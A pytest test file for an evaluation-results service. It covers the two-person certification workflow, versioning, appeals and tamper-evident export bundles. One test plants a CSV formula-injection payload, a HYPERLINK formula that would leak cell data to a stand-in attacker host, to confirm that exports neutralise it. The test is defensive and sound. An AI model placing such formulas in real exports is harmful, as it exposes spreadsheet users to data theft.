"""Results versions: compose → certify (another person) → publish → supersede; appeals;
the re-tally bundle. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import factories as f
import pytest
import results_world
from sqlalchemy.exc import IntegrityError
from sqlmodel import select

from evaluation.audit import verify_chain
from evaluation.models import (
    Appeal,
    AuditEvent,
    Campaign,
    CampaignAgency,
    CampaignStatus,
    ResultsVersion,
    Role,
    Score,
    VersionStatus,
)
from evaluation.models.base import utcnow
from evaluation.services.appeals import decide_appeal, file_appeal
from evaluation.services.errors import ValidationFailed
from evaluation.services.results import compose
from evaluation.services.results_freeze import FrozenView
from evaluation.services.results_history import history_rows
from evaluation.services.results_versions import (
    TwoPersonRule,
    WorkflowRefused,
    certify,
    compose_version,
    edit_announcement,
    publish,
)


def _published(db, world):
    version = compose_version(db, world.campaign, world.composer)
    certify(db, version, world.certifier)
    return publish(db, version, world.composer)


def test_the_composer_cannot_certify(db):
    world = results_world.build(db)
    version = compose_version(db, world.campaign, world.composer)
    with pytest.raises(TwoPersonRule):
        certify(db, version, world.composer)
    assert db.get(ResultsVersion, version.id).status == VersionStatus.DRAFT


def test_the_database_refuses_a_self_certified_version(db):
    world = results_world.build(db)
    version = compose_version(db, world.campaign, world.composer)
    version.status = VersionStatus.CERTIFIED
    version.certified_by, version.certified_at = world.composer.id, utcnow()
    db.add(version)
    with pytest.raises(IntegrityError):
        db.commit()
    db.rollback()


def test_publish_freezes_the_figures_of_scoring(db):
    world = results_world.build(db)
    version = _published(db, world)
    assert version.status == VersionStatus.PUBLISHED and version.appeal_until > utcnow()
    assert db.get(Campaign, world.campaign.id).status == CampaignStatus.PUBLISHED
    frozen = FrozenView.load(version.results_json)
    composed = compose(db, world.campaign)
    for result in composed.result.agencies:
        entry = frozen.agency(result.agency)
        assert entry["total"] == f"{result.total:f}"
        assert entry["rank"] == result.ranked.rank and entry["grade"] == result.graded.grade
    assert frozen.fingerprint == composed.policy.fingerprint == version.policy_fingerprint
    # A later mark changes the preview, never the published version.
    score = db.exec(select(Score)).first()
    score.value = Decimal("1")
    db.add(score)
    db.commit()
    assert db.get(ResultsVersion, version.id).results_json == version.results_json
    actions = {e.action for e in db.exec(select(AuditEvent)).all()}
    assert {"results.compose", "results.certify", "results.publish"} <= actions
    assert verify_chain(db).ok


def test_only_a_certified_version_is_published(db):
    world = results_world.build(db)
    version = compose_version(db, world.campaign, world.composer)
    with pytest.raises(WorkflowRefused):
        publish(db, version, world.composer)


def test_superseding_needs_a_reason_and_keeps_the_old_version(db):
    world = results_world.build(db)
    first = _published(db, world)
    with pytest.raises(ValidationFailed) as caught:
        compose_version(db, world.campaign, world.composer)
    assert "reason" in caught.value.errors
    second = compose_version(db, world.campaign, world.certifier, reason="复核发现录入错误")
    assert second.supersedes_id == first.id and second.number == 2
    certify(db, second, world.composer)
    publish(db, second, world.certifier)
    assert db.get(ResultsVersion, first.id).status == VersionStatus.SUPERSEDED
    assert db.get(ResultsVersion, second.id).status == VersionStatus.PUBLISHED
    with pytest.raises(WorkflowRefused):
        edit_announcement(db, second, "改")


def test_the_database_allows_one_published_version(db):
    world = results_world.build(db)
    first = _published(db, world)
    second = compose_version(db, world.campaign, world.composer, reason="更正")
    second.status, second.certified_by = VersionStatus.PUBLISHED, world.certifier.id
    second.certified_at = second.published_at = utcnow()
    db.add(second)
    with pytest.raises(IntegrityError):
        db.commit()
    db.rollback()
    assert db.get(ResultsVersion, first.id).status == VersionStatus.PUBLISHED


def test_announcement_lists_each_group_and_is_editable_before_publishing(db):
    world = results_world.build(db)
    version = compose_version(db, world.campaign, world.composer)
    text = version.announcement
    assert "一、市直组" in text and "二、县区组" in text or "一、县区组" in text
    assert "第1名" in text and "申诉" in text and version.policy_fingerprint in text
    edit_announcement(db, version, text + "\n（联系电话：0751-0000000）")
    certify(db, version, world.certifier)
    publish(db, version, world.composer)
    assert "0751" in db.get(ResultsVersion, version.id).announcement
    with pytest.raises(ValidationFailed):
        edit_announcement(db, compose_version(db, world.campaign, world.composer,
                                              reason="更正"), "  ")


def test_appeals_within_the_window_by_the_agency_itself(db):
    world = results_world.build(db)
    version = _published(db, world)
    contact = world.contacts["甲局"]
    appeal = file_appeal(db, version, contact, "现场评议评委回避有误")
    assert appeal.agency_id == world.agencies["甲局"].id
    with pytest.raises(WorkflowRefused):
        file_appeal(db, version, contact, "再次申诉")
    outsider = f.user(db, Role.AGENCY_CONTACT, world.org, f.agency(db, world.org))
    with pytest.raises(WorkflowRefused):
        file_appeal(db, version, outsider, "不相关单位")
    with pytest.raises(WorkflowRefused):
        file_appeal(db, version, world.contacts["乙局"], "太晚了",
                    now=version.appeal_until + timedelta(seconds=1))
    with pytest.raises(ValidationFailed):
        decide_appeal(db, appeal, world.composer, "rejected", " ")
    decide_appeal(db, appeal, world.composer, "rejected", "经核查，回避符合规定。")
    assert db.get(Appeal, appeal.id).decided_by == world.composer.id


def test_appeal_and_announcement_texts_are_stored_without_control_characters(db):
    # Pasted from Word: \x07 and \x0b would reach the published page and every export.
    world = results_world.build(db)
    version = compose_version(db, world.campaign, world.composer)
    assert edit_announcement(db, version, "公示\x07文本").announcement == "公示文本"
    certify(db, version, world.certifier)
    publish(db, version, world.composer)
    appeal = file_appeal(db, version, world.contacts["甲局"], "回避\x0b有误\x07")
    assert appeal.text == "回避有误"
    with pytest.raises(ValidationFailed):
        decide_appeal(db, appeal, world.composer, "rejected", "\x07")


def test_history_reads_published_versions_across_years(db):
    world = results_world.build(db)
    _published(db, world)
    rows = history_rows(db, world.agencies["甲局"].id)
    assert [(r.year, r.rank, r.grade) for r in rows] == [(2024, 1, "优秀")]
    assert rows[0].total == Decimal("91.50")


def _bundle(app, db, world, tmp_path):
    _published(db, world)
    runner = app.test_cli_runner()
    out = tmp_path / "bundle"
    result = runner.invoke(args=["results", "export-bundle", str(world.campaign.id),
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    return runner, out


def test_export_bundle_verifies(app, db, tmp_path):
    world = results_world.build(db)
    runner, out = _bundle(app, db, world, tmp_path)
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["raw_marks.csv", "agencies.csv", "policy.json", "results.json", "audit_head.txt"])
    assert "judge" in (out / "raw_marks.csv").read_text(encoding="utf-8")
    result = runner.invoke(args=["results", "verify", str(out)])
    assert result.exit_code == 0, result.output
    assert "OK" in result.output



def test_bundle_names_are_text_in_excel_and_still_verify(app, db, tmp_path):
    # An auditor opens agencies.csv in Excel: a name or group starting with "=" must not run
    # as a formula there, and `pingyi results verify` must still read it back as typed.
    world = results_world.build(db)
    agency = world.agencies["甲局"]
    agency.name = '=HYPERLINK("http://evil.example/?"&A1,"甲局")'
    db.add(agency)
    for enrolment in db.exec(select(CampaignAgency)).all():
        enrolment.group_name = "+" + enrolment.group_name
        db.add(enrolment)
    db.commit()
    runner, out = _bundle(app, db, world, tmp_path)
    rows = list(csv.DictReader(io.StringIO((out / "agencies.csv").read_text(encoding="utf-8"))))
    assert {row["name"] for row in rows if row["name"].startswith("'")} == {
        '\'=HYPERLINK("http://evil.example/?"&A1,"甲局")'}
    assert all(row["group"].startswith("'+") for row in rows)
    result = runner.invoke(args=["results", "verify", str(out)])
    assert result.exit_code == 0, result.output


def test_a_tampered_bundle_names_every_difference(app, db, tmp_path):
    world = results_world.build(db)
    runner, out = _bundle(app, db, world, tmp_path)
    published = json.loads((out / "results.json").read_text(encoding="utf-8"))
    published["agencies"][0]["total"] = "99.99"
    (out / "results.json").write_text(json.dumps(published, ensure_ascii=False), "utf-8")
    marks = (out / "raw_marks.csv").read_text(encoding="utf-8").splitlines()
    marks = [line.replace(",90.00", ",30.00") if "field_inspection" in line else line
             for line in marks]
    (out / "raw_marks.csv").write_text("\n".join(marks) + "\n", encoding="utf-8")
    result = runner.invoke(args=["results", "verify", str(out)])
    assert result.exit_code == 1
    first = published["agencies"][0]
    assert f"agency {first['id']} {first['name']}: total published 99.99" in result.output
    assert "field_inspection score published 88.00, recomputed 58.00" in result.output


def test_the_bundle_check_covers_the_tie_mark_and_the_explanation_the_public_reads(
        app, db, tmp_path):
    """The public page shows each agency's tie mark (并列) and its 计分说明; a bundle whose
    results.json had them changed (a shared rank, a weighted product) passed `verify`."""
    world = results_world.build(db)
    runner, out = _bundle(app, db, world, tmp_path)
    published = json.loads((out / "results.json").read_text(encoding="utf-8"))
    first = published["agencies"][0]
    assert first["shared"] is False
    first["shared"] = True
    line = next(i for i, text in enumerate(first["explanation"]) if text.startswith("合成："))
    first["explanation"][line] = first["explanation"][line][:-2] + "99"
    (out / "results.json").write_text(json.dumps(published, ensure_ascii=False), "utf-8")
    result = runner.invoke(args=["results", "verify", str(out)])
    assert result.exit_code == 1, result.output
    label = f"agency {first['id']} {first['name']}"
    assert f"{label}: shared published True, recomputed False" in result.output
    assert f"{label}: explanation line {line + 1} published" in result.output


def test_a_versions_composed_results_come_from_its_frozen_marks(db):
    from evaluation.services.results import composed_for_version

    world = results_world.build(db)
    version = _published(db, world)
    score = db.exec(select(Score)).first()
    score.value = Decimal("0")  # a later change in the database
    db.add(score)
    db.commit()
    composed = composed_for_version(db, version)
    frozen = FrozenView.load(version.results_json)
    assert composed.status == "published" and composed.revision == version.number
    assert composed.audit_head == version.audit_head
    for result in composed.result.agencies:
        assert frozen.agency(result.agency)["total"] == f"{result.total:f}"


def test_an_untouched_announcement_gets_the_real_appeal_window(db):
    world = results_world.build(db)
    version = compose_version(db, world.campaign, world.composer,
                              now=utcnow() - timedelta(days=30))
    certify(db, version, world.certifier)
    publish(db, version, world.composer, appeal_days=10)
    assert "公示期为 10 天" in db.get(ResultsVersion, version.id).announcement


def test_a_versions_composed_results_list_the_agencies_it_froze(db):
    """Enrolment changes after composing (an agency added, one renamed) do not reach the
    version's reports: they recompute from the agencies, names and groups it froze."""
    from evaluation.models import CampaignAgency
    from evaluation.services.results import composed_for_version

    world = results_world.build(db)
    version = _published(db, world)
    late = f.agency(db, world.org, "后来加入的单位")
    db.add(CampaignAgency(campaign_id=world.campaign.id, agency_id=late.id,
                          group_name="市直组", position=99))
    renamed = world.agencies["甲局"]
    frozen_name = renamed.name
    renamed.name = "改名后的甲局"
    db.add(renamed)
    db.commit()
    composed = composed_for_version(db, version)
    frozen = FrozenView.load(version.results_json)
    assert set(composed.agencies) == {entry["id"] for entry in frozen.data["agencies"]}
    assert composed.agencies[renamed.id].name == frozen_name
    assert [info.group for info in composed.agencies.values()] == \
        [entry["group"] for entry in frozen.data["agencies"]]
